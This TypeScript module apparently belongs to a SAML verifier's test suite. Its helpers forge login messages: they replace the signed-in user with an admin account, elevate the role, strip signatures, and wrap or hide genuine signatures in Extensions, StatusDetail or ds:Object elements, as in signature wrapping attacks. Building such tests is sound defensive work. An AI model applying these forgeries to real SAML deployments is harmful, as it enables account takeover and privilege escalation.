/** The user that the attacker wants to be. */
export const EVIL_USER = 'admin@example.com'
/** The user that the IdP signed in. */
export const GENUINE_USER = 'alice.agent@example.com'

/** Replaces the first occurrence; an edit that finds nothing is a mistake in the table. */
export function replace(text: string, from: string | RegExp, to: string): string {
  const found = typeof from === 'string' ? text.includes(from) : from.test(text)
  if (!found) throw new Error(`nothing to replace: ${from}`)
  return text.replace(from, () => to)
}

/** Removes the first occurrence. */
export const remove = (text: string, part: string | RegExp) => replace(text, part, '')

/** The first element with this name and any prefix. */
export function elementOf(xml: string, name: string): string {
  const [element] = new RegExp(`<((?:\\w+:)?${name})[\\s>][\\s\\S]*?</\\1>`).exec(xml) ?? []
  if (element === undefined) throw new Error(`no element ${name}`)
  return element
}

export const assertionTextOf = (xml: string) => elementOf(xml, 'Assertion')
export const assertionSignatureOf = (xml: string) => elementOf(assertionTextOf(xml), 'Signature')
export const responseSignatureOf = (xml: string) => elementOf(remove(xml, assertionTextOf(xml)), 'Signature')

/** The root element, without XML declaration. */
export const responseOf = (xml: string) => elementOf(xml, 'Response')

export const withoutResponseSignature = (xml: string) => remove(xml, responseSignatureOf(xml))
export const withoutAssertionSignature = (xml: string) => remove(xml, assertionSignatureOf(xml))
export const unsigned = (xml: string) => withoutResponseSignature(withoutAssertionSignature(xml))

/** The prefix of an element, including the colon. */
export const prefixOf = (element: string) => /^<(\w+:)?/.exec(element)?.[1] ?? ''

/** The content between the tags of an element. */
export const contentOf = (element: string) => element.replace(/^<[^<>]*>|<\/[^<>]*>$/g, '')

/** Inserts text immediately before the end tag of an element. */
export const append = (element: string, content: string) => element.replace(/<\/[^<>]+>$/, (end) => content + end)

/** Gives an element another ID. */
export const rename = (element: string, id: string) => replace(element, / ID="[^"]*"/, ` ID="${id}"`)

/** Replaces the user and the role with those that the attacker wants. */
export function promote(xml: string): string {
  return replace(xml.replaceAll(GENUINE_USER, EVIL_USER), '>agent<', '>admin<')
}

const SIGNATURES = /<((?:\w+:)?Signature)[\s>][\s\S]*?<\/\1>/g

/** The message as the attacker wants it, without a signature. */
export const bareEvilMessageOf = (xml: string) => promote(xml.replace(SIGNATURES, ''))

/** Changes only the assertion. */
export const changeAssertion = (xml: string, change: (assertion: string) => string) =>
  replace(xml, assertionTextOf(xml), change(assertionTextOf(xml)))

/** Changes text only inside the assertion. */
export const inAssertion = (xml: string, from: string | RegExp, to: string) =>
  changeAssertion(xml, (assertion) => replace(assertion, from, to))

/** A copy of the assertion as the attacker wants it, under its own ID. */
const evilAssertionOf = (xml: string) => rename(promote(assertionTextOf(xml)), '_evil-assertion')

/** The same, without a signature. */
export const bareEvilAssertionOf = (xml: string) => {
  const evil = evilAssertionOf(xml)
  return remove(evil, elementOf(evil, 'Signature'))
}

/** The message with an evil assertion that still carries the genuine signature, which `hide` changes. */
export function withEvilAssertion(xml: string, hide: (signature: string) => string = (signature) => signature): string {
  const signature = assertionSignatureOf(xml)
  return replace(xml, assertionTextOf(xml), replace(evilAssertionOf(xml), signature, hide(signature)))
}

/** Like `withEvilAssertion`, for the whole Response and its signature. */
export function evilResponseOf(xml: string, hide: (signature: string) => string = (signature) => signature): string {
  const evil = rename(replace(responseOf(xml), assertionTextOf(xml), evilAssertionOf(xml)), '_evil-response')
  const signature = responseSignatureOf(xml)
  return replace(evil, signature, hide(signature))
}

/** The genuine response without its signature: the bytes that its digest covers. */
export const bareResponseOf = (xml: string) => withoutResponseSignature(responseOf(xml))

/** The genuine assertion without its signature: the bytes that its digest covers. */
export const bareAssertionOf = (xml: string) => remove(assertionTextOf(xml), assertionSignatureOf(xml))

/** Puts an element into samlp:Extensions of a response, immediately before its Status. */
export function extend(xml: string, content: string): string {
  const prefix = prefixOf(responseOf(xml))
  const status = `<${prefix}Status>`
  return replace(xml, status, `<${prefix}Extensions>${content}</${prefix}Extensions>${status}`)
}

/** Puts an element into the samlp:StatusDetail of a response. */
export function detail(xml: string, content: string): string {
  const prefix = prefixOf(responseOf(xml))
  const end = `</${prefix}Status>`
  return replace(xml, end, `<${prefix}StatusDetail>${content}</${prefix}StatusDetail>${end}`)
}

/** Puts elements into a ds:Object at the end of a signature. */
export function objectIn(signature: string, content: string): string {
  const prefix = prefixOf(signature)
  return append(signature, `<${prefix}Object>${content}</${prefix}Object>`)
}
